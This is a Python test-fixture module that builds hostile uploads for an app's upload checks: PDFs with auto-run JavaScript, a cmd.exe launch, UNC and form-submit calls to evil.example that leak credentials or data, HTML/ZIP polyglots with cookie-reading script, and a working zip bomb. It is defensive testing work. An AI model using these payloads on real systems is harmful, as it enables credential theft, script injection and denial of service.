"""Files for the upload tests: hostile ones the checks must refuse, and real ones they must not.

Every hostile file is built here, in memory, from its description; none is stored in the repo.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pydyf
from docx import Document as DocxDocument
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from tests.meetings.factories import pdf_bytes

GIB = 1024 * 1024 * 1024
ZIP_LOCAL = struct.Struct("<4s5H3L2H")
SCRIPT = b"<html><body><script>fetch('/admin/').then(r => r.text()).then(alert)</script></body>"
HTML_PAPER = (
    b"<!DOCTYPE html><html lang='en'><head><title>Report</title></head><body>"
    b"<h1>Commissioner's Update Report</h1><script>document.title = document.cookie</script>"
    b"</body></html>"
)


# --- PDFs ------------------------------------------------------------------------------------


def raw_pdf(*extra: bytes, catalog: bytes = b"", page: bytes = b"") -> bytes:
    """A one-page PDF written by hand, so that it can hold what no writer would produce.

    Objects 1-3 are the catalog, the page tree and the page (with `catalog` and `page` added to
    their dictionaries); `extra` bodies become objects 4, 5, ... The xref table is exact."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page + b" >>",
        *extra,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    trailer = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
    out += trailer % (len(bodies) + 1, xref)
    return bytes(out)


def stream(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), dictionary, data)


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _blank_writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def pdf_open_action_javascript() -> bytes:
    writer = _blank_writer()
    action = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.launchURL('https://evil.example/')"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _written(writer)


def pdf_names_javascript() -> bytes:
    """pypdf's own way: a document-level script in the /JavaScript names tree."""
    writer = _blank_writer()
    writer.add_open_action(JavaScript("app.alert('opened');"))
    return _written(writer)


def pdf_launch() -> bytes:
    writer = _blank_writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe"),
            NameObject("/Win"): DictionaryObject({NameObject("/F"): TextStringObject("cmd.exe")}),
        }
    )
    return _written(writer)


def pdf_page_additional_action() -> bytes:
    """/AA on the page: fires on its own when the page opens, whatever the action is."""
    return raw_pdf(page=b"/AA << /O << /S /URI /URI (https://tracker.example/opened) >> >>")


def pdf_embedded_file() -> bytes:
    writer = _blank_writer()
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 pretend program")
    return _written(writer)


def pdf_file_attachment_annotation() -> bytes:
    return raw_pdf(
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 5 0 R >>",
        b"<< /Type /Filespec /F (notes.txt) >>",
        page=b"/Annots [4 0 R]",
    )


def pdf_javascript_in_object_stream() -> bytes:
    """The script inside a compressed object stream (pydyf, as WeasyPrint writes): no raw-byte
    scan can see it, only a parser."""
    pdf = pydyf.PDF()
    pdf.add_page(
        pydyf.Dictionary(
            {
                "Type": "/Page",
                "Parent": pdf.pages.reference,
                "MediaBox": pydyf.Array([0, 0, 595, 842]),
            }
        )
    )
    action = pydyf.Dictionary({"S": "/JavaScript", "JS": pydyf.String("app.alert(1)")})
    pdf.add_object(action)
    pdf.catalog["OpenAction"] = action.reference
    buffer = io.BytesIO()
    pdf.write(buffer, compress=True)
    return buffer.getvalue()


def pdf_hex_escaped_javascript() -> bytes:
    """`/J#61vaScript` is the name /JavaScript spelt with an escape, as viewers read it."""
    return raw_pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>")


def pdf_indirect_action_type() -> bytes:
    """The action's type held in an object of its own: `/S 4 0 R`, where 4 is /Launch."""
    return raw_pdf(b"/Launch", catalog=b"/OpenAction << /S 4 0 R /F (cmd.exe) >>")


def pdf_remote_goto_unc() -> bytes:
    """A link to a file on another machine: opening it leaks the reader's Windows credentials."""
    target = rb"(\\\\evil.example\\share\\a.pdf)"
    return raw_pdf(catalog=b"/OpenAction << /S /GoToR /F " + target + b" /D [0 /Fit] >>")


def pdf_submit_form() -> bytes:
    target = b"<< /FS /URL /F (https://evil.example/) >>"
    return raw_pdf(catalog=b"/OpenAction << /S /SubmitForm /F " + target + b" >>")


def pdf_xfa_form() -> bytes:
    return raw_pdf(stream(b"<xdp:xdp/>"), catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>")


def pdf_javascript_link_in_object_stream() -> bytes:
    pdf = pydyf.PDF()
    annotation = pydyf.Dictionary(
        {
            "Type": "/Annot",
            "Subtype": "/Link",
            "Rect": pydyf.Array([0, 0, 100, 100]),
            "A": pydyf.Dictionary({"S": "/URI", "URI": pydyf.String("javascript:alert(1)")}),
        }
    )
    pdf.add_object(annotation)
    pdf.add_page(
        pydyf.Dictionary(
            {
                "Type": "/Page",
                "Parent": pdf.pages.reference,
                "MediaBox": pydyf.Array([0, 0, 595, 842]),
                "Annots": pydyf.Array([annotation.reference]),
            }
        )
    )
    buffer = io.BytesIO()
    pdf.write(buffer, compress=True)
    return buffer.getvalue()


def pdf_html_polyglot() -> bytes:
    """A valid PDF whose second line is a PDF comment holding a web page: a browser sniffing it
    as HTML would run the script."""
    pdf = pdf_bytes(1)
    header, rest = pdf.split(b"\n", 1)
    return header + b"\n%" + SCRIPT + b"\n" + rest


def pdf_html_in_plain_stream() -> bytes:
    return raw_pdf(stream(SCRIPT), page=b"/Contents 4 0 R")


def pdf_html_in_fake_flate_stream() -> bytes:
    """Declared /FlateDecode, but the data is plain text: not compressed, so it is scanned."""
    return raw_pdf(stream(SCRIPT, b"/Filter /FlateDecode"), page=b"/Contents 4 0 R")


def pdf_with_zip_appended() -> bytes:
    return pdf_bytes(1) + docx_bytes()


# --- Web pages ---------------------------------------------------------------------------------


def html_with_pdf_inside() -> bytes:
    return b"<!DOCTYPE html><html><body><p>Report</p><!--\n" + pdf_bytes(1) + b"\n--></body></html>"


def html_with_zip_appended() -> bytes:
    return HTML_PAPER + docx_bytes()


# --- Word documents ----------------------------------------------------------------------------


def docx_bytes(*, image: bytes | None = None) -> bytes:
    document = DocxDocument()
    document.add_heading("Commissioner's Update Report", level=1)
    for number in range(40):
        document.add_paragraph(f"{number}. The Commissioner reported on progress against the plan.")
    table = document.add_table(rows=20, cols=4)
    for row in table.rows:
        for cell in row.cells:
            cell.text = "£12,345"
    if image is not None:
        document.add_picture(io.BytesIO(image))
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def png_bytes(payload: bytes = b"") -> bytes:
    """A 1x1 PNG; `payload` goes into a private ancillary chunk (viewers skip it)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + crc

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
        + chunk(b"prIv", payload)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff"))
        + chunk(b"IEND", b"")
    )


def docx_with_stored_member(name: str, data: bytes) -> bytes:
    """A real Word document with one more member, stored uncompressed."""
    buffer = io.BytesIO(docx_bytes())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(zipfile.ZipInfo(name), data, compress_type=zipfile.ZIP_STORED)
    return buffer.getvalue()


def docx_with_stored_image_spelling_svg() -> bytes:
    """Word and LibreOffice store pictures uncompressed; image bytes may spell anything."""
    return docx_with_stored_member("word/media/image9.png", png_bytes(b"<svg onload=x>"))


def zeros_docx(size: int, *, level: int = 1) -> bytes:
    """A zip with `word/document.xml` of `size` zero bytes, deflated as it is written."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        zf.writestr("[Content_Types].xml", b"<Types/>")
        with zf.open("word/document.xml", "w", force_zip64=size >= 0xFFFFFFFF) as member:
            chunk = b"\0" * (16 * 1024 * 1024)
            remaining = size
            while remaining:
                member.write(chunk[: min(remaining, len(chunk))])
                remaining -= min(remaining, len(chunk))
    return buffer.getvalue()


def crc32_of_zeros(length: int) -> int:
    """CRC-32 of `length` zero bytes without reading them: the CRC register is linear over
    GF(2), so the operator for one zero bit is squared up to the length (zlib's
    crc32_combine method)."""

    def times(matrix: list[int], vector: int) -> int:
        total, column = 0, 0
        while vector:
            if vector & 1:
                total ^= matrix[column]
            vector >>= 1
            column += 1
        return total

    operator = [0xEDB88320] + [1 << bit for bit in range(31)]
    register, bits = 0xFFFFFFFF, length * 8
    while bits:
        if bits & 1:
            register = times(operator, register)
        operator = [times(operator, column) for column in operator]
        bits >>= 1
    return register ^ 0xFFFFFFFF


def zip_bomb_docx(size: int = GIB) -> bytes:
    """A real zip bomb, truthfully declared: `word/document.xml` is a deflate stream that does
    inflate to `size` zero bytes (about 1 MB for 1 GiB). Deflating a gibibyte takes seconds, so
    one 16 MiB block is compressed and repeated: a full flush makes each block independent."""
    block = 16 * 1024 * 1024
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = compressor.compress(b"\0" * block) + compressor.flush(zlib.Z_FULL_FLUSH)
    data = piece * (size // block) + compressor.flush()
    types = b"<Types/>"
    members = [
        (b"[Content_Types].xml", zipfile.ZIP_STORED, types, len(types), zlib.crc32(types)),
        (b"word/document.xml", zipfile.ZIP_DEFLATED, data, size, crc32_of_zeros(size)),
    ]
    out, central = bytearray(), bytearray()
    for name, method, payload, inflated, crc in members:
        fields = (20, 0, method, 0, 0x21, crc, len(payload), inflated, len(name), 0)
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, *fields, 0, 0, 0, 0, len(out))
        central += name
        out += ZIP_LOCAL.pack(b"PK\x03\x04", *fields) + name + payload
    count = len(members)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(central), len(out), 0)
    return bytes(out + central + end)


def docx_forged_sizes(declared: int) -> bytes:
    """A small zip whose local header and central directory both claim `declared` bytes for
    `word/document.xml`: the data never inflates to that, but whoever trusts it allocates it."""
    name = b"word/document.xml"
    content = bytearray(zeros_docx(1024))
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
        member = archive.getinfo(name.decode())
        entry = archive.start_dir
    # The uncompressed size: at offset 22 of the local header, 24 of the central directory entry.
    struct.pack_into("<L", content, member.header_offset + 22, declared)
    while content[entry + 46 : entry + 46 + len(name)] != name:
        entry = content.find(b"PK\x01\x02", entry + 4)
    struct.pack_into("<L", content, entry + 24, declared)
    return bytes(content)


def docx_pdf_prefixed() -> bytes:
    return pdf_bytes(1) + docx_bytes()


def docx_html_prefixed() -> bytes:
    return SCRIPT + docx_bytes()


# --- Real papers that must still be accepted ----------------------------------------------------


def weasyprint_paper() -> bytes:
    """A report as WeasyPrint writes it (as the app's own PDFs are): compressed object streams,
    bookmarks, links to web pages and to anchors in the document."""
    from meetings.pdf import html_to_pdf

    paragraph = (
        "<p>The panel asked for an update (<a href='https://www.leics.pcc.police.uk/'>OPCC "
        "website</a>, <a href='mailto:panel@example.org'>email</a>, <a href='#s0'>top</a>).</p>"
    )
    paragraphs = "".join(f"<h2 id='s{n}'>Section {n}</h2>{paragraph * 3}" for n in range(30))
    return html_to_pdf(f"<html><body><h1>Update report</h1>{paragraphs}</body></html>")


def pdf_open_action_to_first_page() -> bytes:
    """Many word processors open a PDF at page 1, fitted: an /OpenAction that is a destination."""
    return raw_pdf(catalog=b"/OpenAction [3 0 R /Fit]")


def pdf_goto_open_action() -> bytes:
    return raw_pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /XYZ 0 842 0] >>")


def pdf_compressed_stream_spelling_svg() -> bytes:
    """An image's compressed bytes that happen to spell `<svg`: opaque data, not markup."""
    return raw_pdf(
        stream(
            b"\xff\xd8\xff\xe0<svg\x00\x10JFIF",
            b"/Type /XObject /Subtype /Image /Filter /DCTDecode",
        ),
    )


def pypdf_written_with_outline() -> bytes:
    writer = PdfWriter()
    for _ in range(3):
        writer.add_blank_page(width=595, height=842)
    writer.add_outline_item(title="Agenda", page_number=0)
    writer.add_outline_item(title="Minutes", page_number=2)
    writer.page_layout = "/SinglePage"
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, NameObject("/Fit")]
    )
    return _written(writer)
